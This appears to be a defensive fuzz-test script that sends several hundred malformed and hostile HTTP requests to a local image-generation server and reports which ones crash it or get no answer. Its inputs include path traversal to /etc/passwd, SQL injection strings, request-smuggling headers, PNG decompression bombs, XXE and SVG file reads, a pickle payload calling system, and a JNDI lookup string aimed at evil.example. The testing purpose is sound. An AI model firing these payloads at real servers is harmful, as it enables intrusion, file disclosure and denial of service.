"""Hostile requests to a server on this machine: keys, paths, smuggling, bombs, polyglots, forms, headers, methods.

    python tests/unit/hostile.py http://127.0.0.1:8000 KEY

Every request is small, is sent once over the loopback interface, and has a deadline. Prints what answered with a server
error or not at all, and exits with 1 if anything did.
"""

import io
import socket
import struct
import sys
import zlib
from collections import Counter
from urllib.parse import urlsplit

from PIL import Image, ImageDraw

CRLF = b"\r\n"
SECONDS = 20.0


def png(width=64, height=64):
    image = Image.new("RGBA", (width, height), (0, 0, 0, 0))
    ImageDraw.Draw(image).rectangle((width // 4, height // 4, width // 2, height // 2), fill=(200, 30, 30, 255))
    buffer = io.BytesIO()
    image.save(buffer, "PNG")
    return buffer.getvalue()


def claimed_png(width, height, data=b""):
    """A PNG file whose header claims a size that its data does not have."""

    def chunk(name, content):
        return struct.pack(">I", len(content)) + name + content + struct.pack(">I", zlib.crc32(name + content))

    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(data)) + chunk(b"IEND", b"")


def request(method, path, headers=(), body=b""):
    """The bytes of a request with the length of its body."""
    lines = [f"{method} {path} HTTP/1.1".encode(), b"Host: localhost", b"Connection: close"]
    lines += [header if isinstance(header, bytes) else header.encode() for header in headers]
    if body:
        lines.append(b"Content-Length: %d" % len(body))
    return CRLF.join(lines) + CRLF * 2 + body


def form(key, parts, path="/generate", headers=(), boundary=b"b"):
    """A multipart request. parts: (disposition, content) each."""
    body = b""
    for disposition, content in parts:
        body += b"--" + boundary + CRLF + b"Content-Disposition: form-data; " + disposition + CRLF * 2 + content + CRLF
    body += b"--" + boundary + b"--" + CRLF
    known = [f"Authorization: Bearer {key}", b"Content-Type: multipart/form-data; boundary=" + boundary, *headers]
    return request("POST", path, known, body)


def field(name, value):
    return f'name="{name}"'.encode(), value if isinstance(value, bytes) else value.encode()


def photo(content, name=b"a.png"):
    return b'name="product_file"; filename="' + name + b'"', content


def key_cases(key):
    right = f"Bearer {key}"
    variants = [
        "",
        "Bearer",
        "Bearer ",
        "bearer",
        key,
        f"Basic {key}",
        f"Bearer{key}",
        f"Bearer  {key}x",
        f"Bearer {key[:-1]}",
    ]
    variants += [
        f"Bearer {key}{key}",
        f"Bearer {key},{key}",
        f"Token {key}",
        "Bearer null",
        "Bearer undefined",
        "Bearer true",
    ]
    variants += [
        "Bearer ../../etc/passwd",
        "Bearer ' OR 1=1 --",
        "Bearer %00",
        f"Bearer {key.upper()}",
        "Bearer " + "A" * 8000,
    ]
    for number, value in enumerate(variants):
        for path in ("/generate", "/jobs"):
            yield f"key {number} {path}", request("POST", path, [f"Authorization: {value}"], b"x")
    yield "two keys", request("POST", "/generate", ["Authorization: Bearer wrong", f"Authorization: {right}"], b"x")
    yield "bytes in the key", request("POST", "/generate", [b"Authorization: Bearer \xff\xfe\x00x"], b"x")
    yield "key in the query", request("POST", f"/generate?key={key.replace(' ', '+')}", [], b"x")
    for path in ("/jobs", "/jobs/x", "/jobs/x/events", "/jobs/x/files/0.png", "/jobs?owner=default"):
        yield f"no key {path}", request("GET", path)


def path_cases(key):
    mine = [f"Authorization: Bearer {key}"]
    paths = ["/../../etc/passwd", "/..%2f..%2fetc/passwd", "/%2e%2e/%2e%2e/etc/passwd", "//etc/passwd", "/.git/config"]
    paths += ["/docs/../generate", "/health/", "/health//", "/HEALTH", "/%00", "/\\..\\..", "/generate/", "/a" * 2000]
    paths += ["/?" + "a=b&" * 2000, "/%ff%fe", "/%E2%80%AE", "/health%0d%0aX: y", "/health?x=%0d%0a", "/options?x=1"]
    paths += [
        "/jobs/..%2f..%2fjobs.sqlite3",
        "/jobs/' OR 1=1 --",
        "/jobs/%00",
        "/jobs/" + "a" * 3000,
        "/jobs/x/files/..%2finputs",
    ]
    paths += ["/jobs/jobs.sqlite3/files/x", "/jobs/x/files/../../jobs.sqlite3", "/jobs/x/events/x", "/metrics/../jobs"]
    for path in paths:
        yield f"path {path[:40]}", request("GET", path.replace(" ", "%20"), mine)
    for method in ("HEAD", "OPTIONS", "PUT", "PATCH", "DELETE", "TRACE", "CONNECT", "PROPFIND", "get", "X" * 300):
        for path in ("/", "/generate", "/jobs"):
            yield f"{method[:10]} {path}", request(method, path, mine)


def protocol_cases(key):
    head = f"POST /generate HTTP/1.1\r\nHost: a\r\nAuthorization: Bearer {key}\r\n".encode()
    end = b"Connection: close\r\n\r\n"
    yield "two lengths", head + b"Content-Length: 5\r\nContent-Length: 6\r\n" + end + b"abcdef"
    yield "length and chunks", head + b"Content-Length: 5\r\nTransfer-Encoding: chunked\r\n" + end + b"0\r\n\r\nGET /x"
    yield "negative length", head + b"Content-Length: -1\r\n" + end
    yield "length in words", head + b"Content-Length: five\r\n" + end
    yield "huge length", head + b"Content-Length: 99999999999999999999\r\n" + end
    yield "plus length", head + b"Content-Length: +5\r\n" + end + b"abcde"
    yield "chunks in capitals", head + b"Transfer-Encoding: CHUNKED\r\n" + end + b"0\r\n\r\n"
    yield "chunks twice", head + b"Transfer-Encoding: chunked, chunked\r\n" + end + b"0\r\n\r\n"
    yield "chunk of no size", head + b"Transfer-Encoding: chunked\r\n" + end + b"zz\r\nabc\r\n0\r\n\r\n"
    yield "chunk of a huge size", head + b"Transfer-Encoding: chunked\r\n" + end + b"fffffffffffffffff\r\nabc\r\n"
    yield "hidden chunked", head + b"Transfer-Encoding : chunked\r\n" + end + b"0\r\n\r\n"
    yield "folded header", head + b"X-A: 1\r\n 2\r\n" + end
    yield "header without colon", head + b"nonsense\r\n" + end
    yield "null in a header", head + b"X-A: \x00\r\n" + end
    yield "bare line feeds", b"GET /health HTTP/1.1\nHost: a\nConnection: close\n\n"
    yield "no host", b"GET /health HTTP/1.1\r\nConnection: close\r\n\r\n"
    yield "HTTP/1.0", b"GET /health HTTP/1.0\r\n\r\n"
    yield "HTTP/0.9", b"GET /health\r\n\r\n"
    yield "HTTP/2 preface", b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
    yield "HTTP/9.9", b"GET /health HTTP/9.9\r\nHost: a\r\n\r\n"
    yield "TLS hello", b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + b"\x00" * 200
    yield "bytes", bytes(range(256)) * 4
    yield "an absolute address", b"GET http://evil.example/health HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n"
    yield "many headers", head + b"".join(b"X-%d: 1\r\n" % k for k in range(3000)) + end
    yield "a huge header", head + b"X-A: " + b"a" * 200_000 + CRLF + end
    yield (
        "a websocket",
        request("GET", "/", ["Upgrade: websocket", "Sec-WebSocket-Key: eA==", "Sec-WebSocket-Version: 13"]),
    )
    yield "expect", head + b"Expect: 100-continue\r\nContent-Length: 2\r\n" + end + b"ab"
    yield "expect nonsense", head + b"Expect: nonsense\r\nContent-Length: 2\r\n" + end + b"ab"
    yield "a host to redirect to", b"GET /health/ HTTP/1.1\r\nHost: evil.example\r\nConnection: close\r\n\r\n"
    yield "pipelined", b"GET /health HTTP/1.1\r\nHost: a\r\n\r\n" * 20 + b"GET /health HTTP/1.1\r\nHost: a\r\n" + end
    for accept in ("image/jpeg", "text/plain", ";;;", ",", "*/*;q=abc", "image/png;q=0", "a" * 5000):
        yield f"accept {accept[:20]}", form(key, [photo(png())], headers=[f"Accept: {accept}"])
    yield "a range", request("GET", "/", ["Range: bytes=0-0,0-0,0-0,0-0"])


def picture_cases(key):
    whole = png()
    files = {
        "no bytes": b"",
        "text": b"hello",
        "cut": whole[:-40],
        "cut early": whole[:30],
        "bomb": claimed_png(50_000, 50_000, b"\0" * 1000),
        "largest": claimed_png(2**31 - 1, 2**31 - 1),
        "no pixels": claimed_png(0, 0),
        "one row": claimed_png(100_000, 1),
        "html before": b"<script>alert(1)</script>" + whole,
        "html after": whole + b"<script>alert(1)</script>",
        "gif and js": b"GIF89a/*" + b"\0" * 50 + b"*/=1;alert(1)",
        "svg": b'<svg xmlns="http://www.w3.org/2000/svg"><image href="file:///etc/passwd"/></svg>',
        "svg entity": b'<!DOCTYPE s [<!ENTITY a SYSTEM "file:///etc/passwd">]><svg>&a;</svg>',
        "postscript": b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n(/etc/passwd) run\n",
        "pdf": b"%PDF-1.7\n1 0 obj<<>>endobj\ntrailer<<>>",
        "pickle": b"\x80\x04\x95cos\nsystem\n(S'true'\ntR.",
        "zip": b"PK\x03\x04" + b"\0" * 60,
        "elf": b"\x7fELF" + b"\0" * 60,
        "tiff": b"II*\0\x08\0\0\0\xff\xff" + b"\xff" * 200,
        "bmp": b"BM" + b"\xff" * 100,
        "webp": b"RIFF\xff\xff\xff\xffWEBPVP8 " + b"\xff" * 60,
        "ico": b"\0\0\x01\0\xff\xff" + b"\xff" * 100,
        "psd": b"8BPS\0\x01" + b"\xff" * 80,
        "ppm": b"P6 99999 99999 255\n",
        "icns": b"icns\xff\xff\xff\xff",
    }
    for name, content in files.items():
        for path in ("/generate", "/jobs", "/mask"):
            yield f"{name} {path}", form(key, [photo(content)], path)
    for name in (
        "../../evil.png",
        "/etc/passwd",
        "a\\..\\b.png",
        "a.png\x00.exe",
        "💥.png",
        "a" * 5000,
        "",
        "con",
        "%2e%2e",
    ):
        yield f"file name {name[:12]!r}", form(key, [photo(whole, name.encode())])


def form_cases(key):
    good = photo(png())
    fields = {
        "seed": ["-1", "4294967296", "1e3", "NaN", "0x10", " 1", "١", "9" * 5000, "null", ""],
        "num_images": ["0", "9", "-1", "1.5", "many", "999999999999999999999"],
        "num_inference_steps": ["0", "1001", "1000", "-5", "inf"],
        "guidance_scale": ["nan", "inf", "-inf", "1e308", "0", "51", "true"],
        "light_angle": ["361", "-1", "nan", "90"],
        "placement": ["left", "0", "1", "center", "__class__"],
        "size": ["0x0", "1x1", "99999x99999", "64x", "x64", "64X64", "64x64x64", "-64x64"],
        "prompt": [
            "a" * 2001,
            "\0",
            "{{7*7}}",
            "${jndi:ldap://evil.example/a}",
            "'; DROP TABLE jobs; --",
            "\u202e",
            "%s%n%x",
        ],
        "surface": [
            "a" * 100_000,
            "<script>alert(1)</script>",
            "\ud83d\ude00".encode("utf-16", "surrogatepass").decode("utf-16"),
        ],
    }
    for name, values in fields.items():
        for value in values:
            yield f"{name}={value[:12]!r}", form(key, [good, field(name, value)])
    for name in ("product_file", "seed", "prompt", "num_images"):
        twice = [good, good] if name == "product_file" else [good, field(name, "1"), field(name, "1")]
        yield f"{name} twice", form(key, twice)
    yield "17 styles", form(key, [good, *[field("style", "x")] * 17])
    yield "2000 fields", form(key, [good, *[field(f"f{k}", "x") for k in range(2000)]])
    yield "a field of no name", form(key, [good, (b"", b"x")])
    yield "an odd field name", form(key, [good, field("__proto__", "x"), field("model_config", "x")])
    yield "bytes that are not text", form(key, [good, field("prompt", b"\xff\xfe\xfd")])
    yield "text for a file", form(key, [field("product_file", "text")])
    yield "a file for text", form(key, [good, (b'name="surface"; filename="a"', b"x")])
    yield "a boundary of nothing", form(key, [good], boundary=b"")
    yield "a long boundary", form(key, [good], boundary=b"b" * 5000)
    yield "a reference", form(key, [good, (b'name="reference_file"; filename="r"', png())])
    yield "a mask of another size", form(key, [good, (b'name="mask_file"; filename="m"', png(32, 32))])
    for kind in (
        "application/json",
        "text/xml",
        "multipart/form-data",
        "multipart/mixed; boundary=b",
        "application/x-www-form-urlencoded",
    ):
        headers = [f"Authorization: Bearer {key}", f"Content-Type: {kind}"]
        yield f"as {kind}", request("POST", "/generate", headers, b"[" * 20_000)
    for value in ("a" * 201, "\u00e9", "", "x", "x"):
        yield f"idempotency {value[:5]}", form(key, [good], "/jobs", [f"Idempotency-Key: {value}".encode()])


def cases(key):
    """(name, bytes to send) of every request."""
    for group in (key_cases, path_cases, protocol_cases, picture_cases, form_cases):
        yield from group(key)


def answer_to(url, data):
    """The status of the answer; 0 if the connection was closed without one, -1 if nothing came in time."""
    parts = urlsplit(url)
    assert parts.hostname in ("127.0.0.1", "localhost", "::1"), "only for a server on this machine"
    try:
        with socket.create_connection((parts.hostname, parts.port), timeout=SECONDS) as connection:
            connection.sendall(data)
            received = connection.recv(64)
    except TimeoutError:
        return -1
    except OSError:  # the server closed while it was being sent to
        return 0
    words = received.split(b" ", 2)
    return int(words[1]) if len(words) > 1 and words[0].startswith(b"HTTP/") and words[1].isdigit() else 0


def attack(url, key):
    """Every case's status by its name."""
    return {name: answer_to(url, data) for name, data in cases(key)}


def main():
    url, key = sys.argv[1:]
    found = attack(url, key)
    bad = {name: status for name, status in found.items() if status >= 500 or status < 0}
    print(f"{len(found)} requests, answers by status: {dict(sorted(Counter(found.values()).items()))}")
    print("\n".join(f"{status} {name}" for name, status in bad.items()))
    sys.exit(bool(bad))


if __name__ == "__main__":
    main()
